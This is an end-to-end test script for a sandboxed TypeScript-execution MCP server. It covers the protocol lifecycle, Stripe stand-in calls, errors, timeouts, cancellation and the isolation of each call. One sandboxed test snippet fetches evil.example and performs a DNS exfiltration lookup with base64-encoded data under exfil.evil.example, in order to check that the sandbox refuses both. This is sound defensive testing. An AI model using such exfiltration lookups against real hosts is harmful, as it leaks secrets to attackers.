// SPDX-License-Identifier: LGPL-2.1-or-later
// launch mcp end to end, with the official MCP TypeScript SDK's client: the lifecycle, the
// tool's calls against the Stripe stand-in and elsewhere, malformed requests, a timeout, a
// crash, calls in parallel with a ping answered during a slow one, cancellation, progress,
// and what one call leaves for the next. Run by tests/integration/test_mcp.sh, which sets up
// the network namespace, the stand-in and DNS, once over stdio and once over Streamable HTTP
// (MCP_TRANSPORT=http, tests/mcp/connect.mjs); the raw lines at the end are stdio's alone
// (tests/mcp/http.mjs sends HTTP's).
//
// usage: [MCP_TRANSPORT=http] node e2e.mjs LAUNCH ARGS...   (the server's command line after
// "launch")
// Prints "ok NAME" or "not ok NAME: why" per check; exits 1 when any failed.
import { spawn } from 'node:child_process';
import { readdirSync, readFileSync } from 'node:fs';
import { EmptyResultSchema } from '@modelcontextprotocol/sdk/types.js';
import { connect, transportName } from './connect.mjs';

const [launch, ...args] = process.argv.slice(2);
const marker = process.env.E2E_MARKER ?? 'e2e-marker';
let failed = 0;

function check(name, cond, why) {
	if (cond) {
		console.log(`ok ${name}`);
	} else {
		failed++;
		console.log(`not ok ${name}: ${why}`);
	}
}

const brief = (value) => JSON.stringify(value)?.slice(0, 600);
const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

// Processes of this host whose command line holds the tag: a call's, while it runs.
function running(tag) {
	return readdirSync('/proc').filter((p) => /^\d+$/.test(p)).filter((p) => {
		try { return readFileSync(`/proc/${p}/cmdline`, 'utf8').includes(tag); }
		catch { return false; }
	}).length;
}

async function call(client, code) {
	const result = await client.callTool({ name: 'run_typescript', arguments: { code } },
					     undefined, { timeout: 120000 });
	console.log(`# call: ${result.structuredContent?.duration_ms} ms`);
	return result;
}

async function rpcError(promise) {
	try {
		await promise;
		return null;
	} catch (e) {
		return e;
	}
}

// --- through the SDK's client ---------------------------------------------------------------
console.log(`# transport: ${transportName}`);
const main = await connect(launch, args);
const { client } = main;
// Responses the client did not wait for (a cancelled call's result would be one).
const clientErrors = [];
client.onerror = (e) => clientErrors.push(e.message);
check('protocol negotiated', main.negotiated() === '2025-11-25', main.negotiated());

const info = client.getServerVersion();
check('initialize', info?.name === 'launch' && client.getServerCapabilities()?.tools,
      `server info ${brief(info)}, capabilities ${brief(client.getServerCapabilities())}`);

const { tools } = await client.listTools();
const tool = tools.find((t) => t.name === 'run_typescript');
check('tools/list', tools.length === 2 && tool?.inputSchema?.required?.includes('code') &&
      tools.some((t) => t.name === 'search_docs'), brief(tools));
// Both tools declare an outputSchema, which the SDK's client checks each structuredContent
// against.
check('outputSchema for both tools', tools.every((t) => t.outputSchema?.type === 'object'),
      brief(tools.map((t) => t.outputSchema)));

// search_docs through the SDK, which checks structuredContent against the outputSchema.
const found = await client.callTool({ name: 'search_docs',
				      arguments: { query: 'create a customer', limit: 3 } });
check('search_docs', found.structuredContent?.results?.some((h) => h.name === 'customers.create'),
      brief(found.structuredContent));

// The SDK and the stand-in: a Stripe call that must succeed.
let r = await call(client, `
import Stripe from 'stripe';
const stripe = new Stripe(process.env.STRIPE_API_KEY!);
const customers = await stripe.customers.list({ limit: 2 });
console.log('customers:', customers.data.map((c) => c.email).join(','));
`);
let s = r.structuredContent;
check('stripe call succeeds', !r.isError && s?.exit_status === 0 &&
      s.stdout.includes('customers: ada@example.com,grace@example.com') &&
      !s.refused.some((x) => x.op === 'connect' || x.op === 'dns'), brief(r));
// Nothing at all refused: glibc's attempts at nscd's socket are the prepared runner's, made
// before the call, and left out of its result.
check('nothing refused in a successful call', s?.refused?.length === 0, brief(s?.refused));
check('text content', r.content?.[0]?.type === 'text' &&
      r.content[0].text.includes('customers: ada@example.com'), brief(r.content));

// Elsewhere: another name, an address, a DNS exfiltration look-up (the audit log and the
// result give names in lower case).
// It also leaves a file, a background process and a look at a variable behind, which the
// last call must not see.
r = await call(client, `
import { promises as dns } from 'node:dns';
import { writeFileSync } from 'node:fs';
import { spawn } from 'node:child_process';
writeFileSync('/tmp/left-behind', 'x');
spawn('/bin/sleep', ['300', '${marker}'], { detached: true, stdio: 'ignore' }).unref();
console.log('left', process.env.E2E_NOT_PASSED ?? 'no-variable');
const why = (e: any) => e?.cause?.code ?? e?.code;
for (const [what, go] of [
	['name', () => fetch('https://evil.example/')],
	['address', () => fetch('https://127.0.5.3/')],
	['exfil', () => dns.resolve4('c2VjcmV0.exfil.evil.example')],
] as const) {
	try { await go(); console.log(what, 'went through'); }
	catch (e) { console.log(what, why(e)); }
}
`);
s = r.structuredContent;
const has = (op, destination) => s?.refused?.some((x) => x.op === op && x.destination === destination);
check('elsewhere is refused', s?.exit_status === 0 && /address EPERM/.test(s.stdout) &&
      s.stdout.includes('left no-variable') &&
      !s.stdout.includes('went through'), brief(s));
check('refusals in the result', has('connect', '127.0.5.3:443') && has('dns', 'evil.example') &&
      has('dns', 'c2vjcmv0.exfil.evil.example') &&
      r.content[0].text.includes('connect 127.0.5.3:443'), brief(s?.refused));

// The answer comes when the code has ended, not when its sandbox has: Node's exit here
// takes 30 s (a child in an exit handler), which the result must not wait for; the sandbox
// is killed after the answer (test_mcp.sh finds no sleep left with the marker).
// The wait is timed from the code's last line, not from the request: on a loaded machine a
// call that finds no prepared sandbox can take tens of seconds to start.
{
	r = await call(client, `
import { spawnSync } from 'node:child_process';
process.on('exit', () => { spawnSync('/bin/sleep', ['30', '${marker}-exit']); });
console.log('ended', Date.now());
`);
	s = r.structuredContent;
	const wall = Date.now() - Number(/^ended (\d+)\n$/.exec(s?.stdout ?? '')?.[1]);
	check('result before teardown', !r.isError && s?.exit_status === 0 && wall < 20000,
	      brief({ wall, ...s }));
}

// A connection refused as the code's very last act is still in the result.
r = await call(client, `
import net from 'node:net';
process.exitCode = 3;
console.log('last');
net.connect(443, '127.0.5.3').on('error', (e: any) => console.log('end', e.code));
`);
s = r.structuredContent;
check('refusal at the end listed', s?.exit_status === 3 && s.stdout === 'last\nend EPERM\n' &&
      has('connect', '127.0.5.3:443'), brief(s));

// Every refusal of the code's last moments, a burst of them, is in the result: before
// answering, the server has launch write out what its ring buffer holds (--audit-sync-fd),
// however long a loaded machine takes for it. The connects are made synchronously (libuv's
// handle under net.Socket) right before the code's end, so that the launcher is still behind
// when it comes (with a fixed wait of 10 ms instead, loaded runs lost all 200). The end is an
// uncaught error: Node reports it after the 'exit' handlers, after the runner's "done"; the
// runner reports it first (its stack names main.mts's line), and the call exits 1.
{
	const n = 200;
	r = await call(client, `
const { TCP, TCPConnectWrap, constants } = (process as any).binding('tcp_wrap');
const errors = new Set();
for (let port = 20001; port <= ${20000 + n}; port++) {
	const handle = new TCP(constants.SOCKET);
	errors.add(handle.connect(new TCPConnectWrap(), '127.0.5.3', port));
	handle.close();
}
console.log([...errors].join(','));
throw new Error('thrown at line ' + (10 as number));
`);
	s = r.structuredContent;
	let missing = 0;
	for (let port = 20001; port <= 20000 + n; port++)
		if (!has('connect', `127.0.5.3:${port}`))
			missing++;
	// -1: UV_EPERM, every connect refused.
	check('every refusal at the end listed', s?.exit_status === 1 && s.stdout === '-1\n' &&
	      missing === 0, `${missing} of ${n} missing: ${brief({ ...s, refused: s?.refused?.length })}`);
	check('uncaught error reported', r.isError && s?.stderr?.includes('Error: thrown at line 10') &&
	      /main\.mts:10:\d+/.test(s.stderr), brief({ ...s, refused: s?.refused?.length }));
}

// Malformed calls through the SDK: clear errors, and the server stays up.
let e = await rpcError(client.request({ method: 'no/such/method', params: {} }, EmptyResultSchema));
check('unknown method -32601', e?.code === -32601, brief(e?.message ?? 'no error'));
e = await rpcError(client.callTool({ name: 'no_such_tool', arguments: { code: '1' } }));
check('unknown tool -32602', e?.code === -32602, brief(e?.message ?? 'no error'));
e = await rpcError(client.callTool({ name: 'run_typescript', arguments: { source: '1' } }));
check('missing code -32602', e?.code === -32602, brief(e?.message ?? 'no error'));

// Progress and a per-call timeout through the SDK: onprogress makes it send a progressToken.
{
	const seen = [];
	const at = [Date.now()];
	const p = await client.callTool({ name: 'run_typescript', arguments: {
		code: 'await new Promise((r) => setTimeout(r, 4500));\nconsole.log("slept");\n' } },
	undefined, { timeout: 120000, resetTimeoutOnProgress: true,
		     onprogress: (n) => { seen.push(n.progress); at.push(Date.now()); } });
	at.push(Date.now());
	// The bound: no 2 s without a notification, from the request to the result.
	const gaps = at.slice(1).map((t, i) => t - at[i]);
	check('progress notifications', !p.isError && seen.length >= 3 &&
	      seen.every((v, i) => i === 0 || v > seen[i - 1]), brief(seen));
	check('progress at least every 2 s', Math.max(...gaps) <= 2000, brief(gaps));
	console.log(`# progress gaps: ${gaps.join(' ')} ms`);
	const t = await client.callTool({ name: 'run_typescript', arguments: {
		code: 'await new Promise((r) => setTimeout(r, 5000));\n', timeout_ms: 500 } },
	undefined, { timeout: 120000 });
	check('timeout_ms', t.isError && t.structuredContent?.timed_out === true &&
	      t.structuredContent.exit_status === 124 && t.structuredContent.duration_ms < 4000,
	      brief(t.structuredContent));
	e = await rpcError(client.callTool({ name: 'run_typescript',
					    arguments: { code: '1', timeout_ms: 'x' } }));
	check('timeout_ms "x" -32602', e?.code === -32602, brief(e?.message ?? 'no error'));
	const search = tools.find((x) => x.name === 'search_docs');
	check('annotations', search?.annotations?.readOnlyHint === true &&
	      search.annotations.openWorldHint === false && tool?.annotations?.readOnlyHint === false &&
	      tool.annotations.openWorldHint === true && search.title && tool.title, brief(tools));
}

// Calls in parallel (the server's --max-calls is the CPUs, at least 2): two slow calls sent
// at once run at once, and a ping and tools/list sent during them are answered at once.
{
	const code = "console.log('start ' + Date.now());\n" +
		"await new Promise((r) => setTimeout(r, 3000));\nconsole.log('end ' + Date.now());\n";
	const both = Promise.all([call(client, code), call(client, code)]);
	await sleep(1000);
	let t0 = performance.now();
	await client.ping();
	const pingMs = performance.now() - t0;
	t0 = performance.now();
	const listed = await client.listTools();
	const listMs = performance.now() - t0;
	const times = (await both).map((x) => ['start', 'end'].map((w) =>
		Number(new RegExp(`${w} (\\d+)`).exec(x.structuredContent?.stdout ?? '')?.[1])));
	check('two calls run at once', times[1][0] < times[0][1] && times[0][0] < times[1][1],
	      brief(times));
	// The target is 50 ms; a shared, loaded test machine gets 200.
	check('ping during slow calls', pingMs < 200, `${pingMs.toFixed(1)} ms`);
	check('tools/list during slow calls', listed.tools.length === 2 && listMs < 200,
	      `${listMs.toFixed(1)} ms`);
	console.log(`# ping during two calls: ${pingMs.toFixed(1)} ms, tools/list ${listMs.toFixed(1)} ms`);
}

// Cancellation: the SDK sends notifications/cancelled when its signal aborts; the call's
// sandbox is gone within 100 ms, and no result comes for it (the client would report a
// response to an unknown id), while the server goes on.
{
	const abort = new AbortController();
	const cancelled = client.callTool({ name: 'run_typescript', arguments: { code: `
import { spawnSync } from 'node:child_process';
spawnSync('/bin/sh', ['-c', 'sleep 30; : ${marker}-cancel']);` } }, undefined,
	{ timeout: 120000, signal: abort.signal })
		.then((res) => `answered ${brief(res.structuredContent)}`, (e) => `rejected: ${e.message}`);
	for (let i = 0; i < 400 && !running(`${marker}-cancel`); i++)
		await sleep(25);
	check('a call to cancel runs', running(`${marker}-cancel`) > 0, 'no sleep seen');
	const before = clientErrors.length;
	abort.abort('test');
	const t0 = performance.now();
	while (running(`${marker}-cancel`) && performance.now() - t0 < 3000)
		await sleep(5);
	const goneMs = performance.now() - t0;
	check('cancel kills the sandbox within 100 ms', !running(`${marker}-cancel`) && goneMs <= 100,
	      `${goneMs.toFixed(0)} ms`);
	console.log(`# cancel to no process: ${goneMs.toFixed(0)} ms`);
	check('cancelled call rejected', (await cancelled).startsWith('rejected'), await cancelled);
	await sleep(1000);
	await client.ping();
	check('no result for a cancelled call', clientErrors.length === before,
	      brief(clientErrors.slice(before)));
	r = await call(client, "console.log('after ' + (1 + 1));\n");
	check('a call after the cancel', r.structuredContent?.stdout === 'after 2\n', brief(r));
}

// A call that outlives its timeout: a second server, whose --timeout (the last one given
// wins) is 3 s, so that the other calls keep a timeout a loaded machine cannot reach.
{
	const quick = await connect(launch, [...args, '--timeout', '3'], { name: 'launch-e2e-timeout' });
	r = await call(quick.client, `await new Promise((resolve) => setTimeout(resolve, 600000));`);
	s = r.structuredContent;
	check('timeout', r.isError && s?.timed_out === true && s.exit_status === 124 &&
	      s.duration_ms >= 3000 && s.duration_ms < 30000, brief(s));
	await quick.close();
}

// A call that crashes its runtime, on a server without prepared sandboxes (--pool 0): each
// call then starts its launch with the code (the other calls here use the pool). Unchecked
// (--no-typecheck): a checked call would start a prepared runner instead.
{
	const cold = await connect(launch, [...args, '--pool', '0', '--no-typecheck'],
				   { name: 'launch-e2e-cold' });
	r = await call(cold.client, `process.kill(process.pid, 'SIGSEGV');`);
	s = r.structuredContent;
	check('crash', r.isError && s?.signal === 'SIGSEGV' && s.exit_status === 139, brief(s));
	await cold.close();
}

// The last call: nothing of the earlier ones is there, and a huge output is cut at the cap.
r = await call(client, `
import { existsSync, readdirSync, readFileSync } from 'node:fs';
const others = readdirSync('/proc').filter((p) => /^\\d+$/.test(p)).filter((p) => {
	try { return readFileSync('/proc/' + p + '/cmdline', 'utf8').includes('${marker}'); }
	catch { return false; }
});
console.log('file', existsSync('/tmp/left-behind'), 'processes', others.length,
	    'key', process.env.STRIPE_API_KEY ? 'passed' : 'missing');
process.stdout.write('x'.repeat(1000000));
`);
s = r.structuredContent;
check('fresh sandbox per call', s?.stdout?.startsWith('file false processes 0 key passed\n'),
      brief({ ...s, stdout: s?.stdout?.slice(0, 80) }));
check('output cap', s?.stdout_truncated === true && s.stdout.length <= 20000 &&
      s.stdout.length > 1000, brief({ ...s, stdout: s?.stdout?.length }));

await client.ping();
check('still up after all that', true, '');
check('no unexpected responses', clientErrors.length === 0, brief(clientErrors));
const closed = await main.close();
check('the server ends cleanly', closed === 0, `exit ${closed}`);
if (transportName !== 'stdio')
	process.exit(failed ? 1 : 0);

// --- raw lines: what the SDK would never send ----------------------------------------------
const server = spawn(launch, args, { stdio: ['pipe', 'pipe', 'inherit'] });
const replies = [];
let pending = '';
server.stdout.setEncoding('utf8');
server.stdout.on('data', (chunk) => {
	pending += chunk;
	let nl;
	while ((nl = pending.indexOf('\n')) >= 0) {
		replies.push(JSON.parse(pending.slice(0, nl)));
		pending = pending.slice(nl + 1);
	}
});
const lines = [
	'this is not json',
	'[{"jsonrpc":"2.0","id":1,"method":"ping"}]',
	'{"jsonrpc":"1.0","id":2,"method":"ping"}',
	'{"jsonrpc":"2.0","id":3}',
	'{"jsonrpc":"2.0","id":4,"method":"tools/list"}',
	'{"jsonrpc":"2.0","id":5,"method":"initialize","params":{"capabilities":{}}}',
	'{"jsonrpc":"2.0","id":6,"method":"initialize","params":{"protocolVersion":"1999-01-01","capabilities":{},"clientInfo":{"name":"raw","version":"0"}}}',
	'{"jsonrpc":"2.0","method":"notifications/initialized"}',
	'{"jsonrpc":"2.0","id":7,"method":"tools/call","params":"code"}',
	'{"jsonrpc":"2.0","id":8,"method":"ping"}',
];
server.stdin.write(lines.join('\n') + '\n');
server.stdin.end();
const exitCode = await new Promise((resolve) => server.on('close', resolve));
const byId = (id) => replies.find((x) => x.id === id);
const codes = replies.map((x) => x.error?.code ?? 'ok');
check('raw: one reply per request, none for the notification', replies.length === 9,
      brief(replies));
check('raw: parse error -32700', replies[0]?.error?.code === -32700 && replies[0].id === null,
      brief(replies[0]));
check('raw: batch -32600', replies[1]?.error?.code === -32600, brief(replies[1]));
check('raw: wrong jsonrpc -32600', byId(2)?.error?.code === -32600, brief(byId(2)));
check('raw: no method -32600', byId(3)?.error?.code === -32600, brief(byId(3)));
check('raw: before initialize -32600', byId(4)?.error?.code === -32600, brief(byId(4)));
check('raw: initialize without protocolVersion -32602', byId(5)?.error?.code === -32602,
      brief(byId(5)));
check('raw: unknown version gets the newest', byId(6)?.result?.protocolVersion === '2026-07-28',
      brief(byId(6)));
check('raw: params not an object -32602', byId(7)?.error?.code === -32602, brief(byId(7)));
check('raw: still answers ping', byId(8)?.result && !byId(8).error, brief(codes));
check('raw: exits 0 at end of input', exitCode === 0, `exit ${exitCode}`);

process.exit(failed ? 1 : 0);
